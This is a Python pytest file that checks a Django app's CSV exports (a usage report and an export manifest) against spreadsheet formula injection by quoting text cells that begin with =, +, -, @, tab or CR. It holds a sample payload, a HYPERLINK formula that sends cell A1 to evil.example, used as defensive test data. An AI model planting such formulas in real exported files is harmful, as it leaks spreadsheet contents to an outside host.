"""No cell of a CSV we produce is a live spreadsheet formula (issue 19, finding 2):
one helper (playground/csvsafe.py) used by every CSV writer — the usage CSV and the
ZIP exports' manifest.csv — prefixes text starting with = + - @ tab or CR with a
single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from playground import csvsafe
from playground.billing.models import ApiKey
from playground.generations.models import Generation
from playground.teams.models import Team
from tests.conftest import logged_in, member
from tests.factories import stored_key
from tests.test_exports import archived, download, exported

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = 'HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_helper_quotes_text_and_leaves_numbers_alone() -> None:
    for first in DANGEROUS:
        assert csvsafe.cell(f"{first}1+1") == f"'{first}1+1"
    assert csvsafe.cell("a fox") == "a fox" and csvsafe.cell("") == ""
    assert csvsafe.cell(-3) == -3 and csvsafe.cell(Decimal("-0.5")) == Decimal("-0.5")
    assert csvsafe.cell(None) is None


def test_every_csv_writer_goes_through_the_helper() -> None:
    """A new `csv.writer(` elsewhere would bypass the rule."""
    root = Path(__file__).resolve().parent.parent / "playground"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


def _job_with_dangerous_text(first: str, team: Team) -> tuple[User, Generation, ApiKey]:
    maker = member(f"{first}eve", team, "admin")  # usernames may start with @ + -
    key = stored_key(f"{first}key label", "sk-evo-secret-9999", team)
    job = archived(maker, prompt=f"{first}{FORMULA}", api_key=key)
    Generation.objects.filter(pk=job.pk).update(credits_charged=Decimal("0.40000"))
    return maker, job, key


def _text_cells(rows: list[dict[str, str]]) -> list[str]:
    return [value for row in rows for value in row.values() if value]


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_the_usage_csv_neutralises_prompts_usernames_and_key_labels(
    first: str, team_a: Team
) -> None:
    maker, job, key = _job_with_dangerous_text(first, team_a)
    month = timezone.localtime(job.created_at).strftime("%Y-%m")
    response = logged_in(maker).get(f"/t/a/usage.csv?month={month}")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["prompt"] == f"'{first}{FORMULA}"
    assert row["made_by"] == f"'{first}eve"
    assert row["api_key"] == f"'{key}"
    # Numbers stay numbers; the job is named by its number in the team.
    assert row["n"] == "1" and Decimal(row["charged_credits"]) == Decimal("0.4")
    assert row["job"] == str(job.number)
    assert not [c for c in _text_cells(rows) if c.startswith(tuple(DANGEROUS))]


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_the_export_manifest_csv_neutralises_prompts_and_usernames(
    first: str, team_a: Team, django_capture_on_commit_callbacks: Any
) -> None:
    maker, job, _key = _job_with_dangerous_text(first, team_a)
    client = logged_in(maker)
    export = exported(
        client,
        django_capture_on_commit_callbacks,
        {"source": "selection", "image": [job.images.get().pk]},
    )
    archive = download(client, export)
    rows = list(
        csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"), newline=""))
    )
    assert rows[0]["prompt"] == f"'{first}{FORMULA}"
    assert rows[0]["made_by"] == f"'{first}eve"
    assert rows[0]["n"] == "1" and rows[0]["image_index"] == "1"
    assert not [c for c in _text_cells(rows) if c.startswith(tuple(DANGEROUS))]
    # The JSON manifest keeps the text as it is (it is data, not a sheet).
    import json

    assert json.loads(archive.read("manifest.json"))["images"][0]["prompt"] == f"{first}{FORMULA}"
